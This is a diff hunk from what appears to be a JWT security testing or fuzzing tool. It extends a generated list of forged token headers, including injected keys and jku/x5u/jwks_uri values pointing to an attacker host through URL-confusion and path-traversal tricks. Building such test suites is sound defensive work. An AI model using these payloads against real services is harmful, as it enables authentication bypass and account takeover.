@@ -58,7 +58,7 @@ export function headers({ provider, admin }: Target, attacker: string): Attempt[
     { 'x5t#S256': encode('mine') }, { x5c: [certificate], x5t: encode('mine') }, { iss: attacker }, { epk: jwk },
     ...['jku', 'x5u', 'jwks_uri', 'iss', 'url', 'href', 'p2s', 'trust_chain'].flatMap((name) =>
       [attacker, `${attacker}/jwks`, `${attacker}/jwks#`, `${provider.url}@${attacker.slice(7)}/jwks`,
-        `${provider.url}/jwks/../..//${attacker.slice(7)}`, [`${attacker}/jwks`], { url: attacker }]
+        `${provider.url}/jwks/../..//${attacker.slice(7)}`, `https://${attacker.slice(7)}/jwks`, attacker.replace('127.0.0.1', 'localhost'), [`${attacker}/jwks`], { url: attacker }]
         .map((value) => ({ [name]: value }))),
     { __proto__: null, alg: 'ES256', jwk }, { b64: false, jwk }, { zip: 'DEF', jwk }, { cty: 'JWT', jwk },
   ]; // biome-ignore format: families side by side
